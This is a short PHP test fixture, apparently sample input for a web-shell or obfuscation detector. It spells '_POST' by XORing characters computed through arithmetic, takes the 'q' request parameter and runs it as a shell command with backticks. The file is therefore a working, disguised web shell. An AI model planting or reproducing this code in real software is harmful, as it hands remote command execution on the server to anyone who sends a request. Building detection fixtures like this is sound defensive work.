<?php
// test fixture: "_POST" spelled by XOR with character codes worked out by arithmetic
$k = '!';
$n = ($k ^ chr(2 * (60 + 3))) . ($k ^ chr(ord('o') + 2)) . ($k ^ chr(10 * 11))
   . ($k ^ chr(100 + 7 * 2)) . ($k ^ chr(47 + ord(1 == 1) + 21));
$v = ${$n}['q'];
echo `$v`;
